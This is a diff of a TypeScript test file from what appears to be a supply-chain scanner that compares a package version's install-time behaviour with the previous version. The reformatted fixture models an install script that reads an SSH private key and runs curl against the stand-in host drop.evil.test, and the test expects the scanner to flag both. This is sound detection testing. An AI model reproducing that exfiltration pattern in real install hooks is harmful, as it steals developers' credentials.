@@ -6,18 +6,31 @@ const rules = (v: ReturnType<typeof scoreReport>) => v.reasons.map((r) => r.rule
 const version = (report: ReturnType<typeof reportWith>, v: string) => ({ ...report, package: { ...report.package, version: v } });
 
 /** 1.0.0 builds with node-gyp and fetches headers; 1.0.1 also reads the SSH key and posts to a new host. */
-const previous = version(reportWith({
-  network: { dns: [dns('nodejs.org')], tcp: [tcp('nodejs.org', 443, { protocol: 'tls' })], udp: [] },
-  processes: [proc(['node-gyp', 'rebuild'], { attribution: script('install', 'node-gyp rebuild') })],
-}), '1.0.0');
+const previous = version(
+  reportWith({
+    network: { dns: [dns('nodejs.org')], tcp: [tcp('nodejs.org', 443, { protocol: 'tls' })], udp: [] },
+    processes: [proc(['node-gyp', 'rebuild'], { attribution: script('install', 'node-gyp rebuild') })],
+  }),
+  '1.0.0',
+);
 
 describe('update drift against the previous version', () => {
   it('flags new destinations, new sensitive access and new programs, with evidence', () => {
-    const current = version(reportWith({
-      network: { dns: [dns('nodejs.org'), dns('drop.evil.test')], tcp: [tcp('nodejs.org', 443, { protocol: 'tls' }), tcp('drop.evil.test', 443, { protocol: 'tls' })], udp: [] },
-      processes: [proc(['node-gyp', 'rebuild'], { attribution: script('install', 'node-gyp rebuild') }), proc(['curl', '-s', 'https://drop.evil.test'], { path: '/usr/bin/curl', attribution: script('install') })],
-      sensitiveFiles: [sensitive('ssh', '/home/jordan/.ssh/id_rsa', { attribution: script('install') })],
-    }), '1.0.1');
+    const current = version(
+      reportWith({
+        network: {
+          dns: [dns('nodejs.org'), dns('drop.evil.test')],
+          tcp: [tcp('nodejs.org', 443, { protocol: 'tls' }), tcp('drop.evil.test', 443, { protocol: 'tls' })],
+          udp: [],
+        },
+        processes: [
+          proc(['node-gyp', 'rebuild'], { attribution: script('install', 'node-gyp rebuild') }),
+          proc(['curl', '-s', 'https://drop.evil.test'], { path: '/usr/bin/curl', attribution: script('install') }),
+        ],
+        sensitiveFiles: [sensitive('ssh', '/home/jordan/.ssh/id_rsa', { attribution: script('install') })],
+      }),
+      '1.0.1',
+    );
     const v = scoreReport(current, { previous });
     expect(rules(v)).toEqual(expect.arrayContaining(['update.new-destinations', 'update.new-sensitive-access', 'update.new-programs']));
     const dest = v.reasons.find((r) => r.rule === 'update.new-destinations')!;
